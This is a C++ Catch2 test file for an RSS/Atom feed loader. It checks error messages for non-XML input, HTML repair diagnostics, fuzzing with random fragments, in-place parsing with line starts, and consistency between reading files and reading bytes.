  CHECK(error_of("\xEF\xBB\xBF") == "<input>: rss: empty input");
  CHECK(error_of("\x1F\x8B\x08\x00\x00\x00\x00\x00") == "<input>: rss: gzip-compressed input; decompress it first");
  CHECK(error_of("{\"version\": \"https://jsonfeed.org/version/1.1\", \"items\": [\"<b>\"]}") ==
        "<input>: rss: not an XML document");
  CHECK(error_of("Just some text, no markup at all.") == "<input>: rss: not an XML document");
  CHECK(error_of("<?xml version=\"1.0\"?>\n<!-- nothing else -->") == "<input>: rss: not an XML document");
  CHECK(error_of("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj <</Type /Catalog>>") == "<input>: rss: not an XML document");
  ReadOptions named;
  named.file_name = "feed.xml.gz";
  CHECK(error_of("\x1F\x8B", named) == "feed.xml.gz: rss: gzip-compressed input; decompress it first");
}

TEST_CASE("Random bytes are not an XML document", "[xml-input]") {
  std::mt19937 rng(20151126);
  std::string bytes(4096, '\0');
  for (char& c : bytes) c = static_cast<char>(rng() & 0xFF);
  CHECK(error_of(bytes) == "<input>: rss: not an XML document");
}

TEST_CASE("An HTML page is read as XML-ish, with its repairs listed", "[xml-input]") {
  const std::string page =
      "<!DOCTYPE html>\n"
      "<html lang=en>\n"
      "<head><meta charset=\"utf-8\"><title>OMCT &ndash; News</title>\n"
      "<link rel=stylesheet href=\"/a.css\"></head>\n"
      "<body><p>Torture &amp; impunity&nbsp;<br>in 2015 & after\n"
      "<script>if (a < b && c) { go(); }</script>\n"
      "<img src=/x.png alt=\"\" hidden></body></html>\n";
  const XmlInput x = load(page);
  CHECK(std::string(x.doc.document_element().name()) == "html");
  CHECK(text_of(x, "title") == "OMCT – News");
  CHECK(text_of(x, "script") == "if (a < b && c) { go(); }");
  CHECK(codes(x) == std::vector<std::string>{"doctype", "attribute-syntax", "html-entity", "mismatched-end-tag",
                                             "bare-ampersand", "bare-less-than"});
  CHECK(error_of(page, strict()) == "<input>:1:1: rss: DOCTYPE removed; its entities are never expanded (strict mode)");
}

TEST_CASE("Mangled XML either loads or fails cleanly", "[xml-input]") {
  // Fragments glued at random: every outcome is a document or a ParseError.
  const std::vector<std::string> pieces = {
      "<rss>", "</rss>", "<item>", "</item>", "<a href=\"", "\"", "'", "=", ">", "/>", "<", "</", "&", "&amp;",
      "&nbsp;", "&#", "x;", "<!--", "-->", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<?pi", "?>",
      "<!DOCTYPE d [<!ENTITY e \"&e;&e;\">]>", "text", " ", "\n", "\xC3", "\xA9", "\x01", "\xFF\xFE", "\0"};
  std::mt19937 rng(7);
  int loaded = 0;
  for (int round = 0; round < 2000; ++round) {
    std::string bytes;
    const int n = static_cast<int>(rng() % 40);
    for (int k = 0; k < n; ++k) bytes += pieces[rng() % pieces.size()];
    if (rng() % 2) bytes = "<rss>" + bytes;
    INFO(bytes);
    try {
      const XmlInput x = load(bytes);
      ++loaded;
      CHECK(x.doc.document_element());
      if (!x.text.empty()) {  // what was parsed is well-formed enough for a strict pugixml parse
        pugi::xml_document again;
        CHECK(again.load_buffer(x.text.data(), x.text.size(), pugi::parse_default, pugi::encoding_utf8));
      }
    } catch (const ParseError& e) {
      CHECK_FALSE(std::string(e.what()).empty());
    }
  }
  CHECK(loaded > 500);
}

TEST_CASE("Input handed over is parsed in place, with its line starts noted first", "[xml-input]") {
  // Escapes and CR LF make pugixml move text left inside the buffer, leaving
  // stale line feeds behind: lines must come from the starts noted before.
  const std::string bytes =
      "<?xml version=\"1.0\"?>\r\n<rss version=\"2.0\"><channel>\r\n<title>A &amp;&amp;&amp;\r\n\r\n B</title>\r\n"
      "<item><title>x &lt;&lt;\r\n y</title></item></channel></rss>\r\n";
  const XmlInput copy = load(bytes);
  std::string handed = bytes;
  const char* const buffer = handed.data();
  const XmlInput x = hrnews::detail::load_xml(std::move(handed), ReadOptions{}, "rss");
  CHECK(x.diagnostics.empty());
  CHECK(x.text.data() == buffer);  // the very bytes handed over, no copy
  REQUIRE(x.line_starts.size() == 8);
  CHECK(x.line_starts == hrnews::detail::find_line_starts(bytes));
  CHECK(copy.line_starts.empty());
  CHECK(serialized(x) == serialized(copy));
  CHECK(text_of(x, "title") == "A &&&\n\n B");
}

TEST_CASE("find_line_starts lists 0 and the offset after each line feed", "[xml-input]") {
  using hrnews::detail::find_line_starts;
  CHECK(find_line_starts("") == std::vector<std::size_t>{0});
  CHECK(find_line_starts("abc") == std::vector<std::size_t>{0});
  CHECK(find_line_starts("\n") == std::vector<std::size_t>{0, 1});
  // Past 16 bytes (the vector loop) and in the tail.
  const std::string s = "0123456789\n12345678901234567890\n\n1234567\n";
  CHECK(find_line_starts(s) == std::vector<std::size_t>{0, 11, 32, 33, 41});
}

TEST_CASE("RSS and Atom read from a file give the diagnostics, lines and columns of reading the bytes", "[xml-input]") {
  const std::string rss =
      "<?xml version=\"1.0\"?>\r\n<rss version=\"2.0\"><channel><title>T &amp;&amp;&amp;\r\n\r\n x</title>\r\n"
      "<link>https://example.org/</link>\r\n<item><title>a &lt;&lt;&lt;\r\n b</title>\r\n"
      "  <enclosure length=\"x\"/>\r\n  <pubDate>not a date</pubDate></item></channel></rss>\r\n";
  const std::string atom =
      "<?xml version=\"1.0\"?>\r\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>T &amp;&amp;&amp;\r\n\r\n x</title>\r\n"
      "<id>urn:x</id><updated>2015-11-26T09:30:00Z</updated>\r\n<entry><title>a &lt;&lt;&lt;\r\n b</title>\r\n"
      "  <id>urn:y</id><updated>never</updated></entry></feed>\r\n";
  for (const auto& [format, bytes] : {std::pair<std::string, std::string>{"rss", rss}, {"atom", atom}}) {
    INFO(format);
    const std::string path = hrnews_test::unique_temp_path("hrnews-inplace-test-", "." + format).string();
    {
      std::ofstream out(path, std::ios::binary);
      out << bytes;
    }
    ReadOptions options;
    options.file_name = path;
    const hrnews::Collection from_bytes = hrnews::read(bytes, format, options);
    const hrnews::Collection from_file = hrnews::read_file(path, format, options);
    std::filesystem::remove(path);
    REQUIRE_FALSE(from_bytes.diagnostics.empty());
    CHECK(from_file.diagnostics == from_bytes.diagnostics);
    bool located = false;
    for (const Diagnostic& d : from_file.diagnostics) located = located || (d.line && *d.line >= 7);
    CHECK(located);
    CHECK(from_file.items.size() == 1);
  }
}
